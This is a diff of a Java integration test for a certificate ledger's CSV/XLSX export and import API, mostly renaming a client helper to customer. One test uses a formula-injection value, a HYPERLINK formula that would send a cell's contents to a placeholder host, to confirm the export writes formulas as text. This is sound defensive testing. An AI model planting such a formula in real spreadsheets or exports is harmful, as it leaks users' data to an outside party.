@@ -36,8 +36,8 @@ class LedgerExchangeTest {
     private static final String HEADER = "合同编号,证书编号,企业名称,统一社会信用代码,认证领域,状态,申请受理日期,认证决定日期,"
             + "初审费用（元）,监督费用（元）,发证日期,到期日期,省份,城市,联系人,联系电话,专业代码";
 
-    private long clientWithCertificate(String tag) {
-        long id = given().contentType(ContentType.JSON).body(TestData.client(tag + "导出测试有限公司"))
+    private long customerWithCertificate(String tag) {
+        long id = given().contentType(ContentType.JSON).body(TestData.customer(tag + "导出测试有限公司"))
                 .when().post("/api/customers").then().statusCode(201).extract().jsonPath().getLong("id");
         given().contentType(ContentType.JSON)
                 .body(TestData.certification("QMS").valid("EXP-" + tag, LocalDate.of(2026, 3, 15))
@@ -49,7 +49,7 @@ class LedgerExchangeTest {
     @Test
     void exportsTheFilteredLedgerAsCsvWithBomAndChineseHeaders() {
         String tag = TestData.tag();
-        clientWithCertificate(tag);
+        customerWithCertificate(tag);
         byte[] body = given().queryParam("q", tag).queryParam("format", "csv")
                 .when().get("/api/customers/export").then().statusCode(200)
                 .header("Content-Disposition", containsString(".csv"))
@@ -74,7 +74,7 @@ class LedgerExchangeTest {
     void aFormulaInACellIsExportedAsTextNotAsAFormula() {
         String tag = TestData.tag();
         String name = "=HYPERLINK(\"http://x.example/?\"&D2,\"详情\")" + tag;
-        given().contentType(ContentType.JSON).body(TestData.client(name))
+        given().contentType(ContentType.JSON).body(TestData.customer(name))
                 .when().post("/api/customers").then().statusCode(201);
         String csv = new String(given().queryParam("q", tag).queryParam("format", "csv")
                 .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
@@ -84,7 +84,7 @@ class LedgerExchangeTest {
     @Test
     void xlsxHasFeesAsNumbersAndDatesAsDatesAndImportsBackWithoutErrors() throws Exception {
         String tag = TestData.tag();
-        clientWithCertificate(tag);
+        customerWithCertificate(tag);
         byte[] body = given().queryParam("q", tag).queryParam("format", "xlsx")
                 .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray();
         try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(body))) {
@@ -110,7 +110,7 @@ class LedgerExchangeTest {
     @Test
     void exportsBeyondTheCapAre429WhileTheListStillAnswers() throws Exception {
         String tag = TestData.tag();
-        clientWithCertificate(tag);
+        customerWithCertificate(tag);
         // the exports allowed at once (certcare.export.max-concurrent, 2) are running: slow downloads, say
         LedgerExport.Stream first = export.open(CustomerFilter.Criteria.none(), LedgerExport.Format.CSV, Locale.ROOT);
         LedgerExport.Stream second = export.open(CustomerFilter.Criteria.none(), LedgerExport.Format.CSV, Locale.ROOT);
@@ -135,7 +135,7 @@ class LedgerExchangeTest {
     @Test
     void exportsXlsxWithEnglishHeadersWhenAsked() throws Exception {
         String tag = TestData.tag();
-        clientWithCertificate(tag);
+        customerWithCertificate(tag);
         byte[] body = given().queryParam("q", tag).queryParam("format", "xlsx").header("Accept-Language", "en")
                 .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray();
         try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(body))) {
@@ -227,7 +227,7 @@ class LedgerExchangeTest {
         given().queryParam("q", tag).when().get("/api/customers").then()
                 .body("total", is(2))
                 .body("items.find { it.creditCode == '" + a + "' }.certifications.size()", is(2));
-        // but another client's certificate number is still taken
+        // but another customer's certificate number is still taken
         String c = TestData.creditCode();
         given().contentType("text/csv").body((HEADER + "\nHT-E-" + tag + ",ZS-A-" + tag + "," + tag + "丁公司," + c
                 + ",QMS,有效,2026-01-10,2026-03-15,12000.00,6000.00,2026-03-15,2029-03-14,330000,杭州市,王芳,13800138000,33.02.01\n")
@@ -240,7 +240,7 @@ class LedgerExchangeTest {
     @Test
     void anExportedLedgerCorrectedAndImportedBackUpdatesTheRecordsInPlace() {
         String tag = TestData.tag();
-        long id = clientWithCertificate(tag);
+        long id = customerWithCertificate(tag);
         String exported = new String(given().queryParam("q", tag).queryParam("format", "csv")
                 .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
         long recordId = given().when().get("/api/customers/" + id).then().statusCode(200)
